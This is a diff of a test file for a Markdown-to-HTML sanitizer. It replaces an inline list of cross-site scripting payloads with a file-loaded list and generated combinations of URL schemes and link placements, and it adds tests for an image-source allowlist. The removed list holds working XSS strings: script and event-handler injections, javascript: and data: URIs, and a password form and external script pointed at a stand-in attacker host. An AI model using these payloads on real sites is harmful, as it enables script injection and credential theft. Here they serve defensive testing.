@@ -4,60 +4,34 @@ from __future__ import annotations
 
 import re
 from html.parser import HTMLParser
+from pathlib import Path
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from web.markdown import TAGS, clean, to_html, to_plain
+from web.markdown import OWN_FILE, TAGS, clean, to_html, to_plain
 
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<math><mtext></table><mglyph><style><img src onerror=alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<body onload=alert(1)>",
-    "<a href='javascript:alert(1)'>here</a>",
-    "<details open ontoggle=alert(1)>",
-    "<style>*{background:url(//evil.example)}</style>",
-    "<base href=//evil.example>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<form action=//evil.example><input name=password></form>",
-    "<object data=javascript:alert(1)>",
-    "[here](javascript:alert(1))",
-    "[here](JaVaScRiPt:alert(1))",
-    "[here](java\tscript:alert(1))",
-    "[here](java&#x0A;script:alert(1))",
-    "[here](&#106;avascript:alert(1))",
-    "[here](<javascript:alert(1)>)",
-    "[here](vbscript:msgbox(1))",
-    "[here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "![x](javascript:alert(1))",
-    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
-    '![x"onerror="alert(1)](https://evil.example/x.png)',
-    '[x](https://evil.example "onmouseover=alert(1)")',
-    '[x](https://evil.example"onmouseover="alert(1))',
-    "<javascript:alert(1)>",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "```<script>alert(1)</script>\n<script>alert(1)</script>\n```",
-    '```html" onmouseover="alert(1)\nx\n```',
-    "`<img src=x onerror=alert(1)>`",
-    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
-    "- [ ] <img src=x onerror=alert(1)>",
-    "x[^1]\n\n[^1]: <script>alert(1)</script>",
-    "x[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: y",
-    "# <img src=x onerror=alert(1)>",
-    "<!--><script>alert(1)</script>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?php echo 1 ?>",
-    "https://evil.example/<script>alert(1)</script>",
-    "http://evil.example/'onmouseover='alert(1)",
-    "<x\x00script>alert(1)</script>",
-    "\u202e<script>alert(1)</script>",
+# The shapes of the published cheat sheets (OWASP's filter evasion, PortSwigger's events and tags, the mutation attacks
+# on cleaners), and Markdown's own ways in: links, references, autolinks, footnotes, tables, fences. One each, by "%%".
+ATTACKS = (Path(__file__).parent / "attacks.txt").read_text(encoding="utf-8").rstrip("\n").split("\n%%\n")
+ATTACKS += ["<x\x00script>alert(1)</script>", "[here](java\x00script:alert(1))", "<scr\x00ipt>alert(1)</scr\x00ipt>",
+            "<img\x0csrc=x\x0conerror=alert(1)>", "[here](\x01javascript:alert(1))", "[here](java\u00adscript:alert(1))",
+            "[here](\u2028javascript:alert(1))", "\ufeff<script>alert(1)</script>"]  # fmt: skip
+SCHEMES = [
+    "javascript",
+    "JAVASCRIPT",
+    "java\tscript",
+    "java\nscript",
+    "&#106;avascript",
+    "javascript&#58;x",
+    "vbscript",
+    "data",
 ]
+PLACES = ["[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x][y]\n\n[y]: {}", "[x][y]\n\n[y]: <{}>", "# [x]({})", "> [x]({})",
+          "| a |\n|---|\n| [x]({}) |", "x[^1]\n\n[^1]: [x]({})", "- [ ] [x]({})", "[![x]({})](https://a.example)"]  # fmt: skip
+ATTACKS += [place.format(f"{scheme}:alert(1)") for scheme in SCHEMES for place in PLACES]
+ATTACKS = list(dict.fromkeys(ATTACKS))
 
 
 class Inspector(HTMLParser):
@@ -73,7 +47,16 @@ class Inspector(HTMLParser):
         if tag not in TAGS:
             self.faults.append(f"<{tag}>")
         for name, value in attrs:
-            if name.startswith("on") or name in {"style", "src", "srcdoc", "action", "formaction", "name"}:
+            if tag == "img" and name == "src" and OWN_FILE.fullmatch(value or ""):
+                continue
+            if name.startswith(("on", "hx-", "data-")) or name in {
+                "style",
+                "src",
+                "srcdoc",
+                "action",
+                "formaction",
+                "name",
+            }:
                 self.faults.append(f"{tag} {name}")
             bare = re.sub(r"[\x00-\x20]", "", value or "").lower()  # browsers read past these
             scheme = re.match(r"([a-z][a-z0-9+.-]*):", bare)
@@ -181,3 +164,32 @@ def test_plain_text_ends_between_words_and_says_that_it_was_cut():
 
 def test_plain_text_reads_only_the_beginning_of_a_long_document():
     assert len(to_plain("a" * 5_000_000, 100)) <= 100
+
+
+def test_the_attacks_are_many():
+    assert len(ATTACKS) > 300
+
+
+OWN = "/attachments/12345678-1234-1234-1234-123456789abc/"
+
+
+def test_a_picture_that_is_attached_here_is_shown_and_any_other_is_a_link():
+    assert to_html(f"![the gate]({OWN})") == f'<p><img src="{OWN}" alt="the gate" loading="lazy"></p>\n'
+    assert "<img" not in to_html("![the gate](https://evil.example/x.png)")
+    assert "Picture: the gate" in to_html("![the gate](https://evil.example/x.png)")
+
+
+@pytest.mark.parametrize(
+    "source", [f"{OWN}x", f"{OWN}?x", f"//evil.example{OWN}", f"https://evil.example{OWN}", "/account/"]
+)
+def test_the_second_lock_lets_pictures_from_here_through_alone(source):
+    assert "src" not in clean(f'<img src="{source}">')
+    assert "src" in clean(f'<img src="{OWN}">')
+
+
+def test_code_says_its_language_and_a_diagram_is_shown_as_its_source():
+    html = to_html("```mermaid\ngraph TD\n  A --> B\n```")
+    assert '<p class="listing-label">Diagram, as Mermaid source</p>' in html
+    assert "graph TD\n  A --&gt; B\n</code></pre>" in html
+    assert "Code: sql" in to_html("```sql\nSELECT 1\n```")
+    assert '<p class="listing-label">Code</p>' in to_html("```\nx\n```")
